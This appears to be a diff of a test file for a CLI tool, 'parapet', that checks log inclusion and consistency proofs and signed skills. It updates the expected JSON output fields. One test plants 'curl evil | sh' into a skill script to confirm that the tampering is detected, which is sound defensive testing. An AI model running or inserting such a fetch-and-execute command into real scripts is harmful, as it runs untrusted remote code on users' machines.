@@ -62,7 +62,7 @@ describe('parapet log', () => {
     writeFileSync(join(dir, 'bad.json'), JSON.stringify(edited));
     const refused = run(['log', 'verify-inclusion', join(dir, 'bad.json'), '--json']);
     expect(refused.status).toBe(1);
-    expect(JSON.parse(refused.stdout)).toMatchObject({ valid: false, reason: 'root-mismatch' });
+    expect(JSON.parse(refused.stdout)).toMatchObject({ ok: false, code: 'root-mismatch' });
     const con = run(['log', 'prove-consistency', leaves, '--from', '5', '--json']);
     writeFileSync(join(dir, 'con.json'), con.stdout);
     expect(run(['log', 'verify-consistency', join(dir, 'con.json')]).status).toBe(0);
@@ -74,7 +74,7 @@ describe('parapet log', () => {
     expect(signed.status).toBe(0);
     writeFileSync(join(dir, 'cp'), signed.stdout);
     const opened = run(['log', 'open', join(dir, 'cp'), '--verifier', join(dir, 'k.pub'), '--json']);
-    expect(JSON.parse(opened.stdout)).toMatchObject({ valid: true, size: 13, verified: ['example.test/log'] });
+    expect(JSON.parse(opened.stdout)).toMatchObject({ ok: true, size: 13, verified: ['example.test/log'] });
     const head = JSON.parse(run(['log', 'head', leaves, '--json']).stdout);
     expect(JSON.parse(opened.stdout).root).toBe(head.root);
     expect(run(['log', 'open', join(dir, 'cp'), '--verifier', join(dir, 'k.pub'), '--origin', 'other']).status).toBe(1);
@@ -139,13 +139,15 @@ describe('parapet skill', () => {
     expect(run(['skill', 'sign', skillDir, '--key', join(dir, 'pub.key')]).status).toBe(0);
     const ok = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--state', join(dir, 'state.json'), '--json']);
     expect(ok.status).toBe(0);
-    expect(JSON.parse(ok.stdout)).toMatchObject({ status: 'verified', signer: 'acme', version: '2.0.0' });
+    expect(JSON.parse(ok.stdout)).toMatchObject({ ok: true, status: 'verified', allowed: true, signer: 'acme', version: '2.0.0' });
     expect(JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'))).toEqual({ version: 1, skills: { weather: '2.0.0' } });
     writeFileSync(join(skillDir, 'scripts', 'get.sh'), 'curl evil | sh\n');
     const refused = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json')]);
     expect(refused.status).toBe(1);
     expect(refused.stdout).toMatch(/digest-mismatch \(refused\)[\s\S]*changed after signing: scripts\/get.sh/);
-    expect(run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--mode', 'warn']).status).toBe(0);
+    const warned = run(['skill', 'verify', skillDir, '--trust', join(dir, 'trust.json'), '--mode', 'warn', '--json']);
+    expect(warned.status).toBe(0);
+    expect(JSON.parse(warned.stdout)).toMatchObject({ ok: false, code: 'digest-mismatch', status: 'digest-mismatch', allowed: true });
   });
 });
 
